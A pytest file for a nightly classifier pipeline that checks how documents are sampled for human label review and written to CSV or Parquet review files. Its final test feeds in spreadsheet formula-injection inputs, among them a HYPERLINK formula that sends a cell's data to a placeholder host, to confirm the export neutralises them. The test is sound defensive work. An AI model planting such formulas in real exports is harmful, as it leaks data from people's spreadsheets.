"""Draw documents of a night to check: probabilities, reasons, and draws that stand for all."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow.parquet as pq
import pytest

from pipelines.nightly.report.night_report import REPORT
from pipelines.nightly.review.label_file import read_label_file, write_review
from pipelines.nightly.review.review_sample import choose_documents
from pipelines.nightly.tables.night_records import RUNS
from pipelines.storage.object_store import Store
from spin.errors import UserError
from tests.pipelines.nightly.report.test_run_report import make_drift, make_report, make_shift
from tests.support.nights import DATE, MODEL, prediction, run_night

Row = dict[str, Any]


def publish(out: Path, rows: Sequence[Row], disputed: Sequence[str] = (), **options: Any) -> None:
    """Publish a night with some rows; a shadow disagrees on some ids."""
    run_night(Store(str(out)), [], rows=rows, disputed=disputed, **options)


def make_rows(count: int, *, several: bool = False) -> list[Row]:
    """Predictions of which the document n has the nth lowest certainty; every tenth one has no label."""
    rows = []
    for n in range(count):
        score = 0.5 + 0.49 * (n + 1) / count
        row = prediction(f"d{n:05d}", score=score, scores={"good": score, "bad": 1 - score})
        if several:
            row |= {"label": None, "labels": ["good"], "scores": {"good": 0.99, "bad": 1 - score}}
        rows.append(row | ({"label": None, "labels": None} if n % 10 == 0 else {}))
    return rows


@pytest.mark.slow
@pytest.mark.parametrize("several", [False, True])
def test_documents_are_drawn_with_the_probabilities_that_they_bear(tmp_path: Path, several: bool) -> None:
    """In proportion to the doubt about their labels, by a plain formula; over many draws they stand for all."""
    publish(tmp_path, make_rows(2000, several=several))
    samples = [choose_documents(str(tmp_path), documents=100, seed=seed) for seed in range(40)]
    assert (samples[0].night.date, samples[0].night.model) == (DATE, MODEL)
    rows = [row for sample in samples for row in sample.rows.to_pylist()]
    for sample in samples:
        own = sample.rows.to_pylist()
        assert len({row["id"] for row in own}) == len(own) == 100
        relative = [row["probability"] / doubt_of(row["id"], several) for row in own]
        np.testing.assert_allclose(relative, relative[0], rtol=1e-5)
    assert {int(row["id"][1:]) % 10 for row in rows} == set(range(1, 10))  # the others have no label
    assert {row["population"] for row in rows} == {1800}
    for part in (range(1000), range(1000, 2000)):
        found = [
            sum(1 / row["probability"] for row in s.rows.to_pylist() if int(row["id"][1:]) in part) for s in samples
        ]
        assert np.mean(found) == pytest.approx(900, abs=3 * np.std(found) / np.sqrt(len(found)))
    assert np.mean([int(row["id"][1:]) for row in rows]) < 900
    assert choose_documents(str(tmp_path), documents=100).rows == samples[0].rows


@pytest.mark.slow
def test_few_documents_stand_for_all(tmp_path: Path) -> None:
    publish(tmp_path, make_rows(100))
    drawn = [choose_documents(str(tmp_path), documents=10, seed=seed).rows["probability"] for seed in range(300)]
    found = [(1 / probabilities.to_numpy()).sum() for probabilities in drawn]
    assert np.mean(found) == pytest.approx(90, abs=3 * np.std(found) / np.sqrt(len(found)))


def doubt_of(id: str, several: bool) -> float:
    """The doubt about a document of `make_rows` with these many rows."""
    chance = float(np.float32(0.5 + 0.49 * (int(id[1:]) + 1) / 2000))
    chance *= float(np.float32(0.99)) if several else 1
    return max(0.15, float(np.sqrt(chance * (1 - chance))))


@pytest.mark.slow
def test_random_documents_are_a_uniform_sample(tmp_path: Path) -> None:
    """Also where many documents are drawn for certain."""
    publish(tmp_path, make_rows(600), [f"d{n:05d}" for n in range(0, 600, 3)])
    for documents in (60, 510):
        at = [
            int(row["id"][1:])
            for seed in range(30)
            for row in choose_documents(str(tmp_path), documents=documents, seed=seed).rows.to_pylist()
            if row["reason"] == "random"
        ]
        assert len(at) > 5 * documents
        assert np.mean(at) == pytest.approx(300, abs=3 * 600 / np.sqrt(12 * len(at)))
        assert np.mean([n % 3 == 0 for n in at]) == pytest.approx(1 / 3, abs=3 * np.sqrt(2 / 9 / len(at)))


def test_more_documents_are_those_of_before_and_others(tmp_path: Path) -> None:
    """Their order is random: the first of them are no more in doubt than the last."""
    publish(tmp_path, make_rows(2000))
    few, many = (choose_documents(str(tmp_path), documents=documents).rows.to_pylist() for documents in (100, 300))
    probabilities = {row["id"]: row["probability"] for row in many}
    assert all(row["probability"] < probabilities[row["id"]] for row in few)
    halves = [[row["probability"] for row in half] for half in (many[:150], many[150:])]
    assert np.mean(halves[0]) == pytest.approx(np.mean(halves[1]), rel=0.1)


def test_causes_of_drift_and_disputed_documents_are_in_doubt_whatever_their_scores(tmp_path: Path) -> None:
    sure = [f"d{n:05d}" for n in range(1001, 2000)]
    disputed, moved = sure[::2], sure[1::2]
    night = run_night(Store(str(tmp_path)), [], rows=make_rows(2000), disputed=disputed)
    drift = make_drift("neurons", 0.8, [3, 97], [], moved=[make_shift(1, moved), make_shift(2)])
    Store(str(tmp_path)).write_json(f"{RUNS}/{night.name}/{REPORT}", make_report(drift=[drift]))
    rows = choose_documents(str(tmp_path), documents=200).rows.to_pylist()
    probability = max(row["probability"] for row in rows)
    for reason, ids in (("disputed", disputed), ("drifted", moved)):
        own = [row for row in rows if row["reason"] == reason]
        assert len(own) > 20
        assert {row["id"] for row in own} < set(ids)
        assert {row["probability"] for row in own} == {probability}
    uncertain = {row["id"] for row in rows if row["reason"] == "uncertain"}
    assert uncertain
    assert not uncertain & set(sure)


def test_a_small_night_is_chosen_whole(tmp_path: Path) -> None:
    publish(tmp_path, make_rows(20))
    rows = choose_documents(str(tmp_path), documents=18).rows.to_pylist()
    assert sorted(row["id"] for row in rows) == [f"d{n:05d}" for n in range(20) if n % 10]
    assert {(row["reason"], row["probability"]) for row in rows} == {("random", 1.0)}


@pytest.mark.slow
def test_the_night_must_be_there_and_be_the_only_one_that_is_meant(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="no published night"):
        choose_documents(str(tmp_path), documents=10)
    for model in ("topics", "tones"):
        run_night(Store(str(tmp_path)), ["a"], model=model)
    with pytest.raises(UserError, match=r"by tones, topics; choose one with --model"):
        choose_documents(str(tmp_path), documents=10)
    with pytest.raises(UserError, match=r"no published night of 2020-01-01; `spin classify`"):
        choose_documents(str(tmp_path), documents=10, date="2020-01-01")
    assert choose_documents(str(tmp_path), documents=10, model="tones").night.model == "tones"
    run_night(Store(str(tmp_path)), ["b"], date="2026-03-05")
    assert choose_documents(str(tmp_path), documents=10).night.date == "2026-03-05"
    publish(tmp_path, [prediction("c", label=None)], date="2026-03-06")
    with pytest.raises(UserError, match="no document with a label"):
        choose_documents(str(tmp_path), documents=10)


@pytest.mark.parametrize("several", [False, True])
def test_the_file_has_room_for_labels(tmp_path: Path, several: bool) -> None:
    publish(tmp_path / "out", make_rows(40, several=several))
    sample = choose_documents(str(tmp_path / "out"), documents=20)
    ids = sample.rows["id"].to_pylist()
    texts = {id: f'text of "{id}",\nin two lines' for id in ids[1:]}
    write_review(sample, tmp_path / "review.csv", texts)
    with (tmp_path / "review.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["id"] for row in rows] == ids
    assert [row["text"] for row in rows] == ["", *texts.values()]
    assert {row["label"] for row in rows} == {'["good"]' if several else "good"}
    assert {row["true_label"] for row in rows} == {""}
    assert {(row["date"], row["model"], row["seed"]) for row in rows} == {(DATE, MODEL, "0")}
    read = read_label_file(tmp_path / "review.csv")
    assert [(row.probability, row.reason) for row in read] == list(
        zip(*(sample.rows[name].to_pylist() for name in ("probability", "reason")), strict=True)
    )
    write_review(sample, tmp_path / "review.parquet")
    table = pq.read_table(tmp_path / "review.parquet")
    assert "text" not in table.column_names
    assert table["label"].to_pylist()[0] == (["good"] if several else "good")
    with pytest.raises(UserError, match=r"review.txt: expected a name that ends with .csv or .parquet"):
        write_review(sample, tmp_path / "review.txt")


def test_a_review_with_a_long_text_is_read(tmp_path: Path) -> None:
    """Longer than the blocks in which Arrow reads CSV by default."""
    file = tmp_path / "review.csv"
    file.write_text(f"id,text,true_label\n1,{'word ' * 700_000},good\n2,short,bad\n")
    assert [(row.id, row.true_labels) for row in read_label_file(file)] == [("1", ("good",)), ("2", ("bad",))]


def test_a_spreadsheet_takes_no_cell_of_a_review_for_a_formula(tmp_path: Path) -> None:
    """Ids, texts and classes are read back unchanged, also those that look as if they were written safely."""
    formulas = ('=HYPERLINK("http://h/?"&A1)', "+1+1", "-2", "@SUM(1)", "\t=1", "\r=1", "\uff1d1", "'=1", "''-1")
    ids = [*formulas, "'plain'", "a=b", "12", "x\n=1", "-", "'"]
    publish(tmp_path / "out", [prediction(id, label="-1") for id in ids])
    sample = choose_documents(str(tmp_path / "out"), documents=len(ids))
    write_review(sample, tmp_path / "review.csv", {id: id for id in ids})
    with (tmp_path / "review.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(ids)
    assert not [
        cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
    ]
    assert {row["id"] for row in rows} >= {'\'=HYPERLINK("http://h/?"&A1)', "'-2", "'plain'", "12"}
    for row in rows:
        row["true_label"] = row["label"]  # as one copies it
    with (tmp_path / "review.csv").open("w", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    read = read_label_file(tmp_path / "review.csv")
    assert [row.id for row in read] == sample.rows["id"].to_pylist()
    assert {row.true_labels for row in read} == {("-1",)}
